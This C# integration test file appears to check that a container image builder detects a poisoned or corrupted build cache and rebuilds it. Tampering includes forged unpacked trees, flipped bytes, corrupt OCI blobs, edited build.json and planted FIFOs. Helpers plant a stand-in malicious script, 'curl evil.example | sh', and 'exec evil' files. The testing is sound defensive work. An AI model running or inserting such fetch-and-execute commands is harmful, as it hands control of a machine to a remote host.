using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using HardenImage.Build;
using HardenImage.Common;
using HardenImage.Contracts;
using HardenImage.Oci;

namespace HardenImage.Tests.Build;

/// <summary>
/// A poisoned cache cannot change an image (threat T): HARDEN_CACHE may be shared or restored from another CI run,
/// and artifacts/ may be restored or edited. Forged unpacked trees, forged content blobs, a corrupt layer blob and
/// an edited build.json are each detected, reported and rebuilt, and the image digests stay those of a clean build.
/// </summary>
[Trait("Category", "Integration")]
public sealed class CachePoisoningTests : IAsyncLifetime
{
    private readonly ImageSetWorkspace _w = new();
    private BuildManifest _clean = null!;

    public async Task InitializeAsync()
    {
        await _w.LockAsync();
        _clean = (await _w.BuildAsync()).Manifest;
    }

    public Task DisposeAsync()
    {
        _w.Dispose();
        return Task.CompletedTask;
    }

    private string ToolDebSha() => LockFile.Load(_w.LockPath).Image("tool")!.Architectures.Single(a => a.Architecture == "amd64")
        .Packages.Single(p => p.Name == "fake-tool").Sha256;

    private string ContentPath(string sha) => Path.Combine(_w.Cache, "content", "sha256", sha);

    private static string Sha(byte[] bytes) => Convert.ToHexStringLower(SHA256.HashData(bytes));

    /// <summary>The file list of a package's unpacked tree (which names the pack its files lie in).</summary>
    private JsonNode FileList(string debSha) =>
        JsonNode.Parse(File.ReadAllBytes(ContentPath(File.ReadAllText(Path.Combine(_w.Cache, "unpacked-v4", debSha)).Split(' ')[0])))!;

    /// <summary>
    /// What a cache writer can do without the key: store a pack that holds the package's files and a program of
    /// its own, a file list naming that program as /usr/bin/fake-tool, and a pointer to that list sealed with
    /// <paramref name="sealWith"/>.
    /// </summary>
    private void ForgeUnpackedTree(CacheKey sealWith)
    {
        var debSha = ToolDebSha();
        var pointer = Path.Combine(_w.Cache, "unpacked-v4", debSha);
        var evil = "#!/bin/sh\ncurl evil.example | sh\n"u8.ToArray();
        var manifest = FileList(debSha);
        var pack = File.ReadAllBytes(ContentPath((string)manifest["pack"]!));
        var evilPack = pack.Concat(evil).ToArray();
        File.WriteAllBytes(ContentPath(Sha(evilPack)), evilPack);
        manifest["pack"] = Sha(evilPack);
        manifest["packLength"] = evilPack.Length;
        var entry = manifest["entries"]!.AsArray().Single(e => (string?)e!["path"] == "usr/bin/fake-tool")!;
        entry["sha256"] = Sha(evil);
        entry["size"] = evil.Length;
        entry["offset"] = pack.Length;
        var forged = Encoding.UTF8.GetBytes(manifest.ToJsonString());
        File.WriteAllBytes(ContentPath(Sha(forged)), forged);
        File.WriteAllText(pointer, $"{Sha(forged)} {sealWith.Seal("unpacked-tree-v4", debSha, Sha(forged))}\n");
    }

    private string ToolIndex(BuildManifest m) => m.Image("tool")!.Index;

    private void AssertLayoutVerifies()
    {
        var reader = new OciLayoutReader(OciLayout.Open(Path.Combine(_w.Artifacts, "oci")));
        foreach (var tag in new[] { "base", "tool" }) Assert.Empty(reader.Verify(tag));
    }

    [Fact]
    public async Task ForgedUnpackedTreeManifestAndBlob_InCache_IsDetected_Rebuilt_AndTheDigestIsUnchanged()
    {
        ForgeUnpackedTree(CacheKey.FromSecret(new string('x', 64), "attacker"));
        var rebuilt = await _w.BuildAsync(null, null, force: true);
        Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains("unpacked tree of fake-tool 2.0-1 (amd64)") && r.Contains("is not sealed with this cache key"));
        AssertLayoutVerifies();

        // A pointer in the old unsealed form is refused the same way.
        var pointer = Path.Combine(_w.Cache, "unpacked-v4", ToolDebSha());
        File.WriteAllText(pointer, File.ReadAllText(pointer).Split(' ')[0] + "\n");
        rebuilt = await _w.BuildAsync(null, null, force: true);
        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains("is not a sealed pointer"));
        Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
    }

    [Fact]
    public async Task ForgedUnpackedTree_SealedWithTheRealKey_WouldChangeTheImage_SoTheSealIsWhatStopsIt()
    {
        // The control for the test above: the same forgery, sealed with the key, does reach the image.
        ForgeUnpackedTree(_w.CacheKey);
        var poisoned = await _w.BuildAsync(null, null, force: true);
        Assert.NotEqual(ToolIndex(_clean), ToolIndex(poisoned.Manifest));
        Assert.Empty(poisoned.CacheRepairs);
    }

    [Fact]
    public async Task TornFilesOfSeveralPackages_AfterACrash_AreAllRepaired_InOneBuild()
    {
        // Unpacked files are written without an fsync: a power loss can leave the packs of several packages empty
        // or cut short under intact, sealed file lists. One build must repair them all, not just the first.
        var torn = new List<string>();
        foreach (var pointer in Directory.GetFiles(Path.Combine(_w.Cache, "unpacked-v4")))
        {
            var manifest = FileList(Path.GetFileName(pointer));
            var pack = (string)manifest["pack"]!;
            if ((long)manifest["packLength"]! == 0 || torn.Contains(pack)) continue;
            File.WriteAllBytes(ContentPath(pack), torn.Count % 2 == 0 ? [] : File.ReadAllBytes(ContentPath(pack))[..1]);
            torn.Add(pack);
        }
        Assert.True(torn.Count >= 2, $"only {torn.Count} package(s) to tear");

        var rebuilt = await _w.BuildAsync(null, null, force: true);
        Assert.Equal(_clean.Images.Select(i => (i.Name, i.Index)), rebuilt.Manifest.Images.Select(i => (i.Name, i.Index)));
        Assert.True(rebuilt.CacheRepairs.Count >= 2, string.Join("\n", rebuilt.CacheRepairs));
        AssertLayoutVerifies();
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task ForgedBytesInAPack_AreEvicted_AndRebuilt(bool sameLength)
    {
        var manifest = FileList(ToolDebSha());
        var pack = (string)manifest["pack"]!;
        var tool = manifest["entries"]!.AsArray().Single(e => (string?)e!["path"] == "usr/bin/fake-tool")!;
        var (toolSha, offset, size) = ((string)tool["sha256"]!, (int)(long)tool["offset"]!, (int)(long)tool["size"]!);
        var original = File.ReadAllBytes(ContentPath(pack));
        var forged = (byte[])original.Clone();
        for (var i = offset; i < offset + size; i++) forged[i] ^= 1; // the tool's own bytes, in place
        // A longer program cannot fit in place: the rest of the pack moves, and the pack's length no longer matches.
        if (!sameLength) forged = forged[..offset].Concat(Encoding.ASCII.GetBytes("a longer, different program")).Concat(forged[(offset + size)..]).ToArray();
        File.WriteAllBytes(ContentPath(pack), forged);

        var rebuilt = await _w.BuildAsync(null, null, force: true);
        Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains(pack) && (sameLength
            ? r.Contains(toolSha) && r.Contains("do not match its SHA-256")
            : r.Contains("bytes where the list says")));
        Assert.Equal(original, File.ReadAllBytes(ContentPath(pack)));
        AssertLayoutVerifies();
    }

    [Fact]
    public async Task LooseFileUnderAPackedFilesName_IsNotRead()
    {
        // Once a sealed list says where a file lies in a pack, that is where it is read from: a file planted in the
        // store under the same name (what a cache writer could add without the key) is never consulted.
        // (A pack of one file has that file's name: it is the file. Every other packed file gets a planted twin.)
        var planted = 0;
        foreach (var pointer in Directory.GetFiles(Path.Combine(_w.Cache, "unpacked-v4")))
        {
            var list = FileList(Path.GetFileName(pointer));
            foreach (var sha in list["entries"]!.AsArray().Select(e => (string?)e!["sha256"]).OfType<string>().Distinct())
            {
                if (sha == (string)list["pack"]!) continue;
                File.WriteAllText(ContentPath(sha), "#!/bin/sh\nexec evil\n");
                planted++;
            }
        }
        Assert.True(planted >= 2, $"{planted} planted");
        var rebuilt = await _w.BuildAsync(null, null, force: true);
        Assert.Equal(_clean.Images.Select(i => (i.Name, i.Index)), rebuilt.Manifest.Images.Select(i => (i.Name, i.Index)));
        Assert.Empty(rebuilt.CacheRepairs);
    }

    [Fact]
    public async Task CorruptedLayerBlob_InArtifactsOci_IsNotUpToDate_AndIsWrittenAgain()
    {
        var layer = _clean.Image("tool")!.Architectures.Single(a => a.Architecture == "amd64").Layers[^1];
        var path = Path.Combine(_w.Artifacts, "oci", "blobs", "sha256", Digest.Parse(layer.Digest).Hex);
        var bytes = File.ReadAllBytes(path);
        bytes[bytes.Length / 2] ^= 0x20; // same size: a size check alone would not see it
        File.WriteAllBytes(path, bytes);

        var again = await _w.BuildAsync();
        Assert.False(again.UpToDate);
        Assert.Contains(again.CacheRepairs, r => r.Contains(Digest.Parse(layer.Digest).Hex) && r.Contains("does not match its digest"));
        Assert.Equal(ToolIndex(_clean), ToolIndex(again.Manifest));
        AssertLayoutVerifies();
        Assert.True((await _w.BuildAsync()).UpToDate);
    }

    [Fact]
    public async Task CorruptedConfigBlob_EvenWithForce_IsWrittenAgain()
    {
        var config = _clean.Image("base")!.Architectures.Single(a => a.Architecture == "arm64").Config;
        var path = Path.Combine(_w.Artifacts, "oci", "blobs", "sha256", Digest.Parse(config).Hex);
        File.WriteAllText(path, "{\"config\":{\"User\":\"0:0\"}}");
        var again = await _w.BuildAsync(null, null, force: true);
        Assert.Equal(_clean.Image("base")!.Index, again.Manifest.Image("base")!.Index);
        AssertLayoutVerifies();
    }

    [Fact]
    public async Task EditedBuildJson_PointingAtAnotherImage_IsNotUpToDate()
    {
        // Point "tool" at base's (intact, self-consistent) index in both build.json and index.json.
        var buildJson = Path.Combine(_w.Artifacts, "build.json");
        var node = JsonNode.Parse(File.ReadAllText(buildJson))!;
        var images = node["images"]!.AsArray();
        var baseIndex = (string)images.Single(i => (string?)i!["name"] == "base")!["index"]!;
        images.Single(i => (string?)i!["name"] == "tool")!["index"] = baseIndex;
        File.WriteAllText(buildJson, node.ToJsonString());
        var indexJson = Path.Combine(_w.Artifacts, "oci", "index.json");
        var index = JsonNode.Parse(File.ReadAllText(indexJson))!;
        foreach (var m in index["manifests"]!.AsArray())
            if (((string?)m!["annotations"]?["org.opencontainers.image.ref.name"])?.StartsWith("tool", StringComparison.Ordinal) == true)
                m["digest"] = baseIndex;
        File.WriteAllText(indexJson, index.ToJsonString());

        var again = await _w.BuildAsync();
        Assert.False(again.UpToDate);
        Assert.Contains(again.CacheRepairs, r => r.Contains("the record of image 'tool' is not the one this cache sealed"));
        Assert.Equal(ToolIndex(_clean), ToolIndex(again.Manifest));
        Assert.Equal(ToolIndex(_clean), OciLayout.Open(Path.Combine(_w.Artifacts, "oci")).Resolve("tool")!.Digest);
    }

    [Fact]
    public async Task CacheWrittenWithAnotherKey_IsRebuilt_NotTrusted()
    {
        // A cache restored from another machine or user: every derived entry is re-derived, digests unchanged.
        _w.CacheKey = CacheKey.FromSecret(new string('k', 40), "other machine");
        var again = await _w.BuildAsync();
        Assert.False(again.UpToDate);
        Assert.Equal(_clean.Images.Select(i => i.Index), again.Manifest.Images.Select(i => i.Index));
        Assert.Contains(again.CacheRepairs, r => r.Contains("is not sealed with this cache key"));
        Assert.True((await _w.BuildAsync()).UpToDate);
    }

    [Fact]
    public async Task FifoPlantedInTheCache_DoesNotHangTheBuild_AndIsReplaced()
    {
        var pointer = Path.Combine(_w.Cache, "unpacked-v4", ToolDebSha());
        var manifestSha = File.ReadAllText(pointer).Split(' ')[0];
        // And the pack of another package, whose sealed list stays intact.
        var otherPack = Directory.GetFiles(Path.Combine(_w.Cache, "unpacked-v4")).Where(p => p != pointer)
            .Select(p => (string)FileList(Path.GetFileName(p))["pack"]!).First(p => new FileInfo(ContentPath(p)).Length > 0);
        foreach (var path in new[] { pointer, ContentPath(manifestSha), ContentPath(otherPack) })
        {
            File.Delete(path);
            HardenImage.Tests.Infrastructure.RequiredService.RunOk("mkfifo", [path]);
        }
        // Generous bound, not a timing assertion: a FIFO that is opened blocks for ever.
        var rebuilt = await Task.Run(() => _w.BuildAsync(null, null, force: true)).WaitAsync(TimeSpan.FromMinutes(3));
        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains("is not a regular file"));
        Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
        Assert.True(ContentStore.IsRegularFile(pointer));
        Assert.True(ContentStore.IsRegularFile(ContentPath(otherPack)));
    }
}
